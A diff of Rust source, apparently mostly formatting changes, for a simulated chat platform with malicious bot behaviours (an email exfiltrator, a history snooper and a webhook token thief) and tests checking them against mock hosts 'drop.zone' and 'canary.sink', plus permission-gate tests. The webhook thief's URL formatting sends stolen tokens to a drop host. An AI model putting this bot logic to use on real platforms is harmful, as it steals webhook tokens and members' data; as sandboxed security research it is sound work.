@@ -95,7 +95,9 @@ impl ExfiltratorBehavior {
 
 impl Behavior for ExfiltratorBehavior {
     fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
-        let GatewayEvent::MessageCreate { message, .. } = event else { return };
+        let GatewayEvent::MessageCreate { message, .. } = event else {
+            return;
+        };
         if message.author == api.bot_id() {
             return;
         }
@@ -161,7 +163,9 @@ impl SnooperBehavior {
 
 impl Behavior for SnooperBehavior {
     fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
-        let GatewayEvent::MessageCreate { guild, message } = event else { return };
+        let GatewayEvent::MessageCreate { guild, message } = event else {
+            return;
+        };
         if message.author == api.bot_id() {
             return;
         }
@@ -173,7 +177,9 @@ impl Behavior for SnooperBehavior {
         self.snooped.insert(*guild);
 
         // The developer skims the channel as the bot.
-        let Ok(history) = api.read_history(message.channel) else { return };
+        let Ok(history) = api.read_history(message.channel) else {
+            return;
+        };
         for msg in &history {
             for url in msg.urls() {
                 if api.fetch_url(url).is_ok() {
@@ -223,16 +229,23 @@ impl WebhookThiefBehavior {
 
 impl Behavior for WebhookThiefBehavior {
     fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
-        let GatewayEvent::MessageCreate { message, .. } = event else { return };
+        let GatewayEvent::MessageCreate { message, .. } = event else {
+            return;
+        };
         if message.author == api.bot_id() || self.seen_channels.contains(&message.channel) {
             return;
         }
         self.seen_channels.insert(message.channel);
-        let Ok(hooks) = api.list_webhooks(message.channel) else { return };
+        let Ok(hooks) = api.list_webhooks(message.channel) else {
+            return;
+        };
         for hook in hooks {
             self.stolen_tokens.push(hook.token.clone());
             let drop = self.drop_host.clone();
-            let _ = api.fetch_url(&format!("https://{drop}/drop?hook={}&token={}", hook.id, hook.token));
+            let _ = api.fetch_url(&format!(
+                "https://{drop}/drop?hook={}&token={}",
+                hook.id, hook.token
+            ));
         }
     }
 
@@ -266,29 +279,59 @@ mod tests {
         net.mount("canary.sink", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
             Response::ok(format!("signal {}", req.url.path))
         });
-        net.mount("drop.zone", |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::ok("ok"));
+        net.mount("drop.zone", |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
+            Response::ok("ok")
+        });
         let platform = Platform::new(clock);
         let owner = platform.register_user("owner", "o@x.y");
         let alice = platform.register_user("alice", "a@x.y");
-        let guild = platform.create_guild(owner, "g", GuildVisibility::Public).unwrap();
+        let guild = platform
+            .create_guild(owner, "g", GuildVisibility::Public)
+            .unwrap();
         platform.join_guild(alice, guild, None).unwrap();
         let channel = platform.default_channel(guild).unwrap();
         let app = platform.register_bot_application(owner, "Shady").unwrap();
-        let bot = platform.install_bot(owner, guild, &InviteUrl::bot(app.client_id, perms), true).unwrap();
-        World { platform, net, owner, alice, guild, channel, bot }
+        let bot = platform
+            .install_bot(owner, guild, &InviteUrl::bot(app.client_id, perms), true)
+            .unwrap();
+        World {
+            platform,
+            net,
+            owner,
+            alice,
+            guild,
+            channel,
+            bot,
+        }
     }
 
-    fn deliver(w: &World, behavior: &mut dyn Behavior, author: UserId, content: &str, atts: Vec<Attachment>) {
-        let id = w.platform.send_message(author, w.channel, content, atts).unwrap();
+    fn deliver(
+        w: &World,
+        behavior: &mut dyn Behavior,
+        author: UserId,
+        content: &str,
+        atts: Vec<Attachment>,
+    ) {
+        let id = w
+            .platform
+            .send_message(author, w.channel, content, atts)
+            .unwrap();
         let history = w.platform.read_history(w.owner, w.channel).unwrap();
         let message = history.iter().find(|m| m.id == id).unwrap().clone();
         let mut api = BotApi::new(w.platform.clone(), w.net.clone(), w.bot, "shady");
-        behavior.on_event(&GatewayEvent::MessageCreate { guild: w.guild, message }, &mut api);
+        behavior.on_event(
+            &GatewayEvent::MessageCreate {
+                guild: w.guild,
+                message,
+            },
+            &mut api,
+        );
     }
 
     #[test]
     fn urls_in_bytes_finds_embedded_links() {
-        let doc = b"PK\x03\x04 docProps https://canary.sink/t/abc123 more <a href=\"http://x.y/z\">";
+        let doc =
+            b"PK\x03\x04 docProps https://canary.sink/t/abc123 more <a href=\"http://x.y/z\">";
         let urls = urls_in_bytes(doc);
         assert_eq!(urls, vec!["http://x.y/z", "https://canary.sink/t/abc123"]);
         assert!(urls_in_bytes(b"no links").is_empty());
@@ -298,9 +341,16 @@ mod tests {
     fn exfiltrator_fetches_posted_urls() {
         let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
         let mut x = ExfiltratorBehavior::new(None);
-        deliver(&w, &mut x, w.alice, "see https://canary.sink/t/tok1 ok", vec![]);
+        deliver(
+            &w,
+            &mut x,
+            w.alice,
+            "see https://canary.sink/t/tok1 ok",
+            vec![],
+        );
         assert_eq!(x.fetched_urls, vec!["https://canary.sink/t/tok1"]);
-        w.net.with_trace(|t| assert_eq!(t.matching_url("canary.sink").len(), 1));
+        w.net
+            .with_trace(|t| assert_eq!(t.matching_url("canary.sink").len(), 1));
     }
 
     #[test]
@@ -321,12 +371,21 @@ mod tests {
     fn exfiltrator_ships_emails_to_drop_host() {
         let w = world(Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL);
         let mut x = ExfiltratorBehavior::new(Some("drop.zone"));
-        deliver(&w, &mut x, w.alice, "contact cfo@megacorp.example for the docs", vec![]);
+        deliver(
+            &w,
+            &mut x,
+            w.alice,
+            "contact cfo@megacorp.example for the docs",
+            vec![],
+        );
         assert_eq!(x.harvested_emails, vec!["cfo@megacorp.example"]);
         w.net.with_trace(|t| {
             let drops = t.matching_url("drop.zone");
             assert_eq!(drops.len(), 1);
-            assert!(drops[0].url.contains("cfo%40megacorp.example") || drops[0].url.contains("cfo@megacorp.example"));
+            assert!(
+                drops[0].url.contains("cfo%40megacorp.example")
+                    || drops[0].url.contains("cfo@megacorp.example")
+            );
         });
     }
 
@@ -336,7 +395,10 @@ mod tests {
             Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL | Permissions::MANAGE_WEBHOOKS,
         );
         // The guild owner set up a legitimate webhook earlier.
-        let hook = w.platform.create_webhook(w.owner, w.channel, "ci-updates").unwrap();
+        let hook = w
+            .platform
+            .create_webhook(w.owner, w.channel, "ci-updates")
+            .unwrap();
         let mut thief = WebhookThiefBehavior::new("drop.zone");
         deliver(&w, &mut thief, w.alice, "ordinary chatter", vec![]);
         assert_eq!(thief.stolen_tokens, vec![hook.token.clone()]);
@@ -359,7 +421,8 @@ mod tests {
         let mut thief = WebhookThiefBehavior::new("drop.zone");
         deliver(&w, &mut thief, w.alice, "hello", vec![]);
         assert!(thief.stolen_tokens.is_empty(), "MANAGE_WEBHOOKS gate held");
-        w.net.with_trace(|t| assert!(t.matching_url("drop.zone").is_empty()));
+        w.net
+            .with_trace(|t| assert!(t.matching_url("drop.zone").is_empty()));
     }
 
     #[test]
@@ -370,23 +433,48 @@ mod tests {
                 | Permissions::READ_MESSAGE_HISTORY,
         );
         let mut s = SnooperBehavior::new(3);
-        let doc = Attachment::new("notes.docx", "application/vnd.word", b"https://canary.sink/t/snoop7".to_vec());
-        deliver(&w, &mut s, w.alice, "first https://canary.sink/t/early", vec![doc]);
+        let doc = Attachment::new(
+            "notes.docx",
+            "application/vnd.word",
+            b"https://canary.sink/t/snoop7".to_vec(),
+        );
+        deliver(
+            &w,
+            &mut s,
+            w.alice,
+            "first https://canary.sink/t/early",
+            vec![doc],
+        );
         assert!(s.fetched_urls.is_empty(), "dormant below threshold");
         deliver(&w, &mut s, w.alice, "second message", vec![]);
         assert!(s.fetched_urls.is_empty());
         // Third message crosses the threshold → one full snoop of history.
         deliver(&w, &mut s, w.alice, "third message", vec![]);
-        assert!(s.fetched_urls.contains(&"https://canary.sink/t/early".to_string()));
-        assert!(s.fetched_urls.contains(&"https://canary.sink/t/snoop7".to_string()));
+        assert!(s
+            .fetched_urls
+            .contains(&"https://canary.sink/t/early".to_string()));
+        assert!(s
+            .fetched_urls
+            .contains(&"https://canary.sink/t/snoop7".to_string()));
         assert_eq!(s.opened_attachments, vec!["notes.docx"]);
         // The human aside was posted by the bot account.
-        let last = w.platform.read_history(w.owner, w.channel).unwrap().pop().unwrap();
+        let last = w
+            .platform
+            .read_history(w.owner, w.channel)
+            .unwrap()
+            .pop()
+            .unwrap();
         assert_eq!(last.content, "wtf is this bro");
         assert_eq!(last.author, w.bot);
         // Further messages do not re-trigger.
         let before = s.fetched_urls.len();
-        deliver(&w, &mut s, w.alice, "fourth https://canary.sink/t/later", vec![]);
+        deliver(
+            &w,
+            &mut s,
+            w.alice,
+            "fourth https://canary.sink/t/later",
+            vec![],
+        );
         assert_eq!(s.fetched_urls.len(), before);
     }
 
@@ -395,10 +483,16 @@ mod tests {
         let w = world(Permissions::SEND_MESSAGES);
         // Strip READ_MESSAGE_HISTORY from @everyone so the bot truly lacks it.
         let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
-        let stripped = Permissions::everyone_defaults().difference(Permissions::READ_MESSAGE_HISTORY);
-        w.platform.edit_role(w.owner, w.guild, everyone, stripped).unwrap();
+        let stripped =
+            Permissions::everyone_defaults().difference(Permissions::READ_MESSAGE_HISTORY);
+        w.platform
+            .edit_role(w.owner, w.guild, everyone, stripped)
+            .unwrap();
         let mut s = SnooperBehavior::new(1);
         deliver(&w, &mut s, w.alice, "https://canary.sink/t/guarded", vec![]);
-        assert!(s.fetched_urls.is_empty(), "no READ_MESSAGE_HISTORY → no snoop");
+        assert!(
+            s.fetched_urls.is_empty(),
+            "no READ_MESSAGE_HISTORY → no snoop"
+        );
     }
 }
